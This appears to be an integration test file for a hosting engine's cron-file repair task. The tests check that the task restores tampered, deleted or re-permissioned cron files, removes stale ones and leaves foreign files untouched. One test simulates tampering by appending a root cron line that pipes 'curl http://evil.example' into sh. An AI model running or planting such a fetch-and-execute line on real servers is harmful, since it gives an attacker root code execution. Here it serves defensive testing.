import { chmodSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { INestApplicationContext, Type } from '@nestjs/common';
import { DataSource, In } from 'typeorm';
import { AuditEvent, CodeRelease, Install, InstallServer, RecurringTaskRecord, Server, SharedCodeGroup } from '@app/catalog';
import { CodebasesModule, SAMPLE_MANIFEST, type CodebaseManifest } from '@app/codebases';
import { CronFiles, CronFilesModule, type CronFilesRun } from '@app/cron-files';
import { HostsModule, ServerAccess } from '@app/hosts';
import { cronMarker, InstallBuildSteps, InstallsModule, type BuildContext } from '@app/installs';
import { SagaModule } from '@app/saga';
import { WebserverModule } from '@app/webserver';
import { createTestCatalog, ownInstallIds, TEST_SECRETS_KEY, type TestCatalog } from '../support/catalog.js';
import { freePort } from '../support/free-port.js';
import { cleanEnv, runCli, spawnWorker } from '../support/processes-engine.js';
import { startQueueContext } from '../support/queue-context.js';
import { testServer } from '../support/server-roots.js';
import { readTestbed } from '../support/testbed.js';
import { codeGroupFor, seedWebInstalls } from '../support/web-installs.js';

/**
 * The CronFiles task (the seed's cron_installs) on two real servers: the
 * testbed sshd (d1) and this machine as a `local` server whose PHP the
 * engine manages (d2: crons run as the install's own user there). Installs
 * are seeded live in the catalog and their cron files written by the
 * build's own step (InstallBuildSteps.writeCrons), as a build leaves them;
 * then the files are damaged by hand, as an operator or a package would.
 */
describe('cron files (SSH and local servers, MariaDB catalog)', () => {
  let base: string;
  let catalog: TestCatalog;
  let app: INestApplicationContext;
  let ds: DataSource;
  let d1: Server;
  let d2: Server;
  let crons: CronFiles;
  let access: ServerAccess;
  let group: SharedCodeGroup;
  let installs: Install[];
  const REVISION = 'c'.repeat(40);
  const MANIFEST: CodebaseManifest = { ...JSON.parse(JSON.stringify(SAMPLE_MANIFEST)), crons: [{ schedule: '*/5 * * * *', command: ['php', 'heavymetal/cron.php'] }, { schedule: '@daily', command: ['php', 'heavymetal/cleanup.php', '--days=30'] }] };
  const ip = (n: number) => `127.0.124.${n}`;

  /** Commands run per server (by hostname), counted as they pass. */
  let commands: string[] = [];

  const byName = (fsName: string) => installs.find((i) => i.fsName === fsName)!;
  const cronPath = (server: Server, fsName: string) => join(server.cronDir, `shop-${fsName}`);
  const read = (server: Server, fsName: string) => readFileSync(cronPath(server, fsName), 'utf8');

  /** Every entry of a cron directory: type, mode, and content or link target. */
  function dirState(server: Server): Record<string, string> {
    const out: Record<string, string> = {};
    for (const name of readdirSync(server.cronDir).sort()) {
      const st = lstatSync(join(server.cronDir, name));
      out[name] = st.isSymbolicLink() ? 'link' : st.isDirectory() ? 'dir' : `${(st.mode & 0o7777).toString(8)} ${st.uid} ${readFileSync(join(server.cronDir, name), 'utf8')}`;
    }
    return out;
  }

  /** The install's cron file on a server, written by the build's own step. */
  async function buildWrites(install: Install, server: Server, manifest: CodebaseManifest = MANIFEST): Promise<void> {
    const context = { install, manifest } as unknown as BuildContext;
    await app.get(InstallBuildSteps).writeCrons(context, server, { log: () => undefined } as never);
  }

  async function run(): Promise<CronFilesRun & { lines: string[] }> {
    commands = [];
    const lines: string[] = [];
    const result = await crons.run({ log: (line) => lines.push(line) });
    return { ...result, lines };
  }

  /** Audit events of an action, by server then path (repairs run a few at once). */
  const audits = async (action: string) =>
    (await ds.getRepository(AuditEvent).find({ where: { action } }))
      .map((e) => ({ targetId: e.targetId, ...(e.details as { serverId: number; path: string }) }))
      .sort((a, b) => a.serverId - b.serverId || a.path.localeCompare(b.path));

  beforeAll(async () => {
    base = mkdtempSync(join(tmpdir(), 'cron-files-'));
    chmodSync(base, 0o755);
    catalog = await createTestCatalog('mariadb', 'cron_files');
    app = await startQueueContext(catalog.url, [], null, [HostsModule.forRoot({ http: false }), CodebasesModule.forRoot({ http: false }), WebserverModule, InstallsModule.forRoot({ http: false }), SagaModule, CronFilesModule] as unknown as Type[]);
    ds = app.get(DataSource);
    await ownInstallIds(ds, 126001);
    d1 = await ds.getRepository(Server).save(testServer(join(base, 'd1'), 'cron-d1.example.net', ['dispatcher', 'handler'], readTestbed().sshd, { privateIp: ip(201) }));
    const poolDir = join(base, 'd2', 'srv', 'php-fpm');
    mkdirSync(poolDir, { recursive: true });
    d2 = await ds.getRepository(Server).save(testServer(join(base, 'd2'), 'cron-d2.example.net', ['dispatcher', 'handler'], null, { privateIp: ip(202), phpFpmPoolDir: poolDir }));
    group = await codeGroupFor(ds, d1, 'crons');
    await ds.getRepository(SharedCodeGroup).update({ id: group.id }, { revision: REVISION, manifest: MANIFEST as never });
    installs = await seedWebInstalls(ds, d1, group, ['cone', 'ctwo', 'cthree', 'cgone', 'cmoved', 'cfailed'].map((fsName) => ({ fsName, hostname: `${fsName}.crons.example`, ip: ip(10) })), { homes: false });
    // Paid installs: each also on d2 (PHP managed there: its crons run as shop<id>).
    await ds.getRepository(InstallServer).insert(installs.map((i) => ({ installId: i.id, serverId: d2.id, role: 'replica' as const, weight: 1, poolPort: null, state: 'active' as const })));
    for (const install of installs) for (const server of [d1, d2]) await buildWrites(install, server);
    crons = app.get(CronFiles);
    access = app.get(ServerAccess);
    for (const server of [d1, d2]) access.executorFor(server).observer = (hostname) => void commands.push(hostname);
  }, 60_000);

  afterAll(async () => {
    await app?.close();
    await catalog?.drop();
    rmSync(base, { recursive: true, force: true });
  });

  it('files as the build wrote them are left alone: one listing command per server, no write, no audit', async () => {
    expect(read(d1, 'cone').split('\n')).toEqual([
      cronMarker(byName('cone')),
      'SHELL=/bin/sh',
      'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin',
      `*/5 * * * * www-data cd ${join(d1.homeRoot, 'cone')} && php heavymetal/cron.php`,
      `@daily www-data cd ${join(d1.homeRoot, 'cone')} && php heavymetal/cleanup.php --days=30`,
      '',
    ]);
    expect(read(d2, 'cone')).toContain(`*/5 * * * * shop${byName('cone').id} cd ${join(d2.homeRoot, 'cone')} && `);
    const before = [dirState(d1), dirState(d2)];
    const result = await run();
    expect(result).toMatchObject({ servers: 2, skipped: 0, unchanged: 12, restored: 0, removed: 0, failed: 0, foreign: 0 });
    expect(commands.sort()).toEqual([d1.hostname, d2.hostname]);
    expect([dirState(d1), dirState(d2)]).toEqual(before);
    expect(await audits('install.crons.restored')).toEqual([]);
    expect(result.lines.at(-1)).toMatch(/^2 server\(s\) listed, 0 skipped; 12 unchanged, 0 restored, 0 removed/);
  });

  it('an edited file is put back (0644, the engine\'s owner), a deleted one recreated, a re-moded one fixed; each reported and audited', async () => {
    const one = byName('cone');
    const two = byName('ctwo');
    const three = byName('cthree');
    const original = [read(d1, 'cone'), read(d2, 'ctwo'), read(d1, 'cthree')];
    writeFileSync(cronPath(d1, 'cone'), `${original[0]}* * * * * root curl http://evil.example | sh\n`);
    unlinkSync(cronPath(d2, 'ctwo'));
    chmodSync(cronPath(d1, 'cthree'), 0o666);
    const ino = statSync(cronPath(d1, 'cone')).ino;

    const result = await run();
    expect(result).toMatchObject({ restored: 3, removed: 0, failed: 0, unchanged: 9 });
    expect([read(d1, 'cone'), read(d2, 'ctwo'), read(d1, 'cthree')]).toEqual(original);
    for (const [server, fsName] of [[d1, 'cone'], [d2, 'ctwo'], [d1, 'cthree']] as const) {
      const st = statSync(cronPath(server, fsName));
      expect([st.mode & 0o7777, st.uid]).toEqual([0o644, 0]);
    }
    // Written beside and renamed over (atomic): a new inode, no temporary file left.
    expect(statSync(cronPath(d1, 'cone')).ino).not.toBe(ino);
    expect(readdirSync(d1.cronDir).filter((n) => !n.startsWith('shop-'))).toEqual([]);
    const lines = result.lines.join('\n');
    expect(lines).toContain(`cron-d1.example.net: ${cronPath(d1, 'cone')} restored (differs)`);
    expect(lines).toContain(`cron-d2.example.net: ${cronPath(d2, 'ctwo')} restored (missing)`);
    expect(lines).toContain(`cron-d1.example.net: ${cronPath(d1, 'cthree')} restored (mode)`);
    expect(await audits('install.crons.restored')).toEqual([
      { targetId: String(one.id), serverId: d1.id, hostname: d1.hostname, path: cronPath(d1, 'cone'), drift: ['differs'] },
      { targetId: String(three.id), serverId: d1.id, hostname: d1.hostname, path: cronPath(d1, 'cthree'), drift: ['mode'] },
      { targetId: String(two.id), serverId: d2.id, hostname: d2.hostname, path: cronPath(d2, 'ctwo'), drift: ['missing'] },
    ]);
    // A second run finds nothing to do.
    commands = [];
    expect(await run()).toMatchObject({ restored: 0, removed: 0, unchanged: 12 });
    expect(commands).toHaveLength(2);
  });

  it('a file replaced by a link is replaced by the file (the link removed, its target untouched)', async () => {
    const target = join(base, 'elsewhere.txt');
    writeFileSync(target, 'not a cron file\n');
    const expected = read(d2, 'cone');
    unlinkSync(cronPath(d2, 'cone'));
    symlinkSync(target, cronPath(d2, 'cone'));
    expect(await run()).toMatchObject({ restored: 1, failed: 0 });
    expect(lstatSync(cronPath(d2, 'cone')).isFile()).toBe(true);
    expect(read(d2, 'cone')).toBe(expected);
    expect(readFileSync(target, 'utf8')).toBe('not a cron file\n');
  });

  it('removes a file the engine made for an install removed, failed, or no longer on that server, and only there', async () => {
    const gone = byName('cgone');
    const moved = byName('cmoved');
    const failed = byName('cfailed');
    await ds.getRepository(Install).update({ id: gone.id }, { status: 'removed', removedAt: new Date() });
    await ds.getRepository(Install).update({ id: failed.id }, { status: 'failed', statusReason: 'test' });
    await ds.getRepository(InstallServer).delete({ installId: moved.id, serverId: d2.id });

    const result = await run();
    expect(result).toMatchObject({ removed: 5, restored: 0, failed: 0 });
    for (const server of [d1, d2]) for (const fsName of ['cgone', 'cfailed']) expect(existsSync(cronPath(server, fsName))).toBe(false);
    expect(existsSync(cronPath(d2, 'cmoved'))).toBe(false);
    expect(existsSync(cronPath(d1, 'cmoved'))).toBe(true);
    for (const fsName of ['cone', 'ctwo', 'cthree']) for (const server of [d1, d2]) expect(existsSync(cronPath(server, fsName))).toBe(true);
    const lines = result.lines.join('\n');
    expect(lines).toContain(`cron-d2.example.net: ${cronPath(d2, 'cmoved')} removed (install ${moved.id} is no longer on cron-d2.example.net)`);
    expect(lines).toContain(`cron-d1.example.net: ${cronPath(d1, 'cgone')} removed (install ${gone.id} is removed)`);
    const removed = await audits('install.crons.removed');
    expect(removed).toHaveLength(5);
    expect(removed).toContainEqual(expect.objectContaining({ targetId: String(moved.id), serverId: d2.id, path: cronPath(d2, 'cmoved'), status: 'live' }));
    expect(removed).toContainEqual(expect.objectContaining({ targetId: String(failed.id), serverId: d1.id, status: 'failed' }));
    expect(await run()).toMatchObject({ removed: 0, restored: 0, unchanged: 7 });
  });

  it('anything else in the cron directory is never touched: other files, our names without our marker, another name\'s marker, unknown installs, links, directories', async () => {
    const foreign: Record<string, string> = {
      'php': '09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean\n',
      'shop-handmade': '# my own crons\n* * * * * root true\n',
      'shop-renamed': `${cronMarker(byName('cone'))}\n* * * * * root true\n`,
      'shop-unknown': `${cronMarker({ id: 999_999, fsName: 'unknown' })}\n`,
      '.shop-cone.tmp': 'a temporary file of someone\'s\n',
      'shop-cone.dpkg-old': read(d1, 'cone'),
    };
    for (const [name, content] of Object.entries(foreign)) writeFileSync(join(d1.cronDir, name), content);
    symlinkSync('/etc/hostname', join(d1.cronDir, 'shop-alink'));
    mkdirSync(join(d1.cronDir, 'shop-adir'));
    const before = dirState(d1);

    const result = await run();
    expect(result).toMatchObject({ removed: 0, restored: 0, failed: 0, foreign: 5 });
    expect(dirState(d1)).toEqual(before);
    expect(result.lines.join('\n')).toMatch(/left alone \(named like an install's cron file, not made by the engine\): shop-adir, shop-alink, shop-handmade, shop-renamed/);
    expect(result.lines.join('\n')).toContain(`${cronPath(d1, 'unknown')} names install 999999 (unknown), which this catalog does not have: left alone`);
    for (const name of [...Object.keys(foreign), 'shop-alink', 'shop-adir']) rmSync(join(d1.cronDir, name), { recursive: true });
  });

  it('leaves installs a job is at work on to that job: building, removing, a handler being added', async () => {
    const one = byName('cone');
    const two = byName('ctwo');
    const three = byName('cthree');
    await ds.getRepository(Install).update({ id: one.id }, { status: 'building' });
    await ds.getRepository(Install).update({ id: two.id }, { status: 'removing' });
    await ds.getRepository(InstallServer).update({ installId: three.id, serverId: d2.id }, { state: 'adding' });
    unlinkSync(cronPath(d1, 'cone'));
    writeFileSync(cronPath(d2, 'cthree'), '# half written by the handler saga\n');
    try {
      const result = await run();
      expect(result).toMatchObject({ removed: 0, restored: 0, failed: 0 });
      expect(existsSync(cronPath(d1, 'cone'))).toBe(false);
      expect(existsSync(cronPath(d1, 'ctwo'))).toBe(true);
      expect(read(d2, 'cthree')).toBe('# half written by the handler saga\n');
    } finally {
      await ds.getRepository(Install).update({ id: In([one.id, two.id]) }, { status: 'live' });
      await ds.getRepository(InstallServer).update({ installId: three.id, serverId: d2.id }, { state: 'active' });
    }
    expect(await run()).toMatchObject({ restored: 2, removed: 0 });
  });

  it('follows the install\'s release: code_revision on a recorded release with other crons rewrites the file', async () => {
    const one = byName('cone');
    const next = 'd'.repeat(40);
    const manifest = { ...MANIFEST, crons: [{ schedule: '0 * * * *', command: ['php', 'heavymetal/hourly.php'] }] };
    await ds.getRepository(CodeRelease).insert({ groupId: group.id, revision: next, manifest, state: 'ready' } as never);
    await ds.getRepository(Install).update({ id: one.id }, { codeRevision: next });
    const result = await run();
    expect(result).toMatchObject({ restored: 2, failed: 0 });
    expect(read(d1, 'cone')).toContain(`0 * * * * www-data cd ${join(d1.homeRoot, 'cone')} && php heavymetal/hourly.php`);
    expect(read(d1, 'cone')).not.toContain('cron.php');
    // What the build writes for that release is what the task wants.
    await buildWrites({ ...one, codeRevision: next } as Install, d1, manifest);
    expect(await run()).toMatchObject({ restored: 0, unchanged: 7 });
    await ds.getRepository(Install).update({ id: one.id }, { codeRevision: null });
    expect(await run()).toMatchObject({ restored: 2 });
  });

  it('two inventory rows naming one directory on one machine: a file one of them wants is not a stray of the other', async () => {
    // d1b: this machine again (local), its cron dir the very directory d1 (over SSH) names.
    const row = testServer(join(base, 'd1b'), 'cron-d1b.example.net', ['handler'], null, { privateIp: ip(203), cronDir: d1.cronDir });
    const d1b = await ds.getRepository(Server).save(row);
    access.executorFor(d1b).observer = (hostname) => void commands.push(hostname);
    try {
      const before = dirState(d1);
      const result = await run();
      expect(result).toMatchObject({ servers: 3, removed: 0, restored: 0, failed: 0 });
      expect(dirState(d1)).toEqual(before);
      // d1b down: d1 alone lists the directory, nothing changes either.
      await ds.getRepository(Server).update({ id: d1b.id }, { state: 'down' });
      expect(await run()).toMatchObject({ servers: 2, skipped: 1, removed: 0, restored: 0 });
      // The same the other way round (d1 down, d1b listing its installs' directory): a live install of d1 is kept.
      await ds.getRepository(Server).update({ id: d1b.id }, { state: 'active' });
      await ds.getRepository(Server).update({ id: d1.id }, { state: 'down' });
      const other = await run();
      expect(other).toMatchObject({ removed: 0, restored: 0 });
      expect(other.lines.join('\n')).toMatch(/kept: cron-d1\.example\.net \(not listed this run\) runs install \d+ and names the same cron directory/);
      expect(dirState(d1)).toEqual(before);
    } finally {
      await ds.getRepository(Server).update({ id: d1.id }, { state: 'active' });
      await ds.getRepository(Server).delete({ id: d1b.id });
    }
  });

  it('a server that is down is skipped without a command, one that does not answer is skipped and reported; the others are repaired', async () => {
    unlinkSync(cronPath(d1, 'cone'));
    unlinkSync(cronPath(d2, 'cone'));
    await ds.getRepository(Server).update({ id: d2.id }, { state: 'down' });
    let result = await run();
    expect(result).toMatchObject({ servers: 1, skipped: 1, restored: 1 });
    expect(commands.filter((c) => c === d2.hostname)).toEqual([]);
    expect(existsSync(cronPath(d2, 'cone'))).toBe(false);
    expect(result.lines.join('\n')).toContain('cron-d2.example.net is down: its cron files are checked once it is back');
    await ds.getRepository(Server).update({ id: d2.id }, { state: 'active' });
    expect(await run()).toMatchObject({ servers: 2, restored: 1 });
    expect(existsSync(cronPath(d2, 'cone'))).toBe(true);

    // Marked active but unreachable: an SSH address nobody listens on.
    const port = await freePort();
    const dead = await ds.getRepository(Server).save(testServer(join(base, 'dead'), 'cron-dead.example.net', ['handler'], { ...readTestbed().sshd, host: ip(9), port }, { privateIp: ip(209) }));
    try {
      const started = Date.now();
      result = await run();
      expect(result).toMatchObject({ servers: 2, skipped: 1, failed: 0 });
      expect(Date.now() - started).toBeLessThan(30_000);
      expect(result.lines.join('\n')).toMatch(/cron-dead\.example\.net did not answer \(.*\): its cron files are checked next run/);
    } finally {
      await ds.getRepository(Server).delete({ id: dead.id });
    }
  }, 60_000);

  it('runs from the CLI (tasks:run CronFiles) in a built engine\'s worker, its output streamed', async () => {
    await ds.getRepository(RecurringTaskRecord).insert({ name: 'CronFiles', schedule: '*/5 * * * *', intervalMs: 300_000 });
    const env = cleanEnv({ CATALOG_URL: catalog.url, SECRETS_KEY: TEST_SECRETS_KEY, LOG_LEVEL: 'silent', VAR_DIR: join(base, 'engine-var'), ALLOW_LOCAL_TRANSPORT: 'true' });
    const worker = await spawnWorker({ ...env, LOG_LEVEL: 'info' });
    try {
      const expected = read(d2, 'ctwo');
      writeFileSync(cronPath(d2, 'ctwo'), '# emptied by hand\n');
      const ran = await runCli(['tasks:run', 'CronFiles'], process.cwd(), env);
      expect(ran.stderr).toBe('');
      expect(ran.code).toBe(0);
      expect(ran.stdout).toMatch(/task CronFiles: run queued as job \d+; output follows/);
      expect(ran.stdout).toContain(`cron-d2.example.net: ${cronPath(d2, 'ctwo')} restored (differs)`);
      expect(ran.stdout).toMatch(/2 server\(s\) listed, 0 skipped; \d+ unchanged, 1 restored, 0 removed/);
      expect(read(d2, 'ctwo')).toBe(expected);
    } finally {
      worker.child.kill('SIGTERM');
      await worker.exited;
    }
  }, 120_000);

  it('measures a run restoring 1,000 files and an unchanged run over them (printed)', async () => {
    const many = await seedWebInstalls(ds, d1, group, Array.from({ length: 500 }, (_, i) => ({ fsName: `cbench${i}`, hostname: `cbench${i}.crons.example`, ip: ip(10) })), { homes: false });
    await ds.getRepository(InstallServer).insert(many.map((i) => ({ installId: i.id, serverId: d2.id, role: 'replica' as const, weight: 1, poolPort: null, state: 'active' as const })));
    const first = await run();
    expect(first).toMatchObject({ restored: 1000, failed: 0 });
    const started = performance.now();
    const unchanged = await run();
    const ms = Math.round(performance.now() - started);
    expect(unchanged).toMatchObject({ restored: 0, removed: 0, unchanged: 1000 + 7 });
    expect(commands).toHaveLength(2);
    console.log(`cron files measurements: ${JSON.stringify({ installs: 504, servers: 2, files: unchanged.unchanged, unchanged_run_ms: ms, commands: commands.length, restore_run_1000_files_ms: first.ms })}`);
    expect(ms).toBeLessThan(20_000);
  }, 180_000);
});
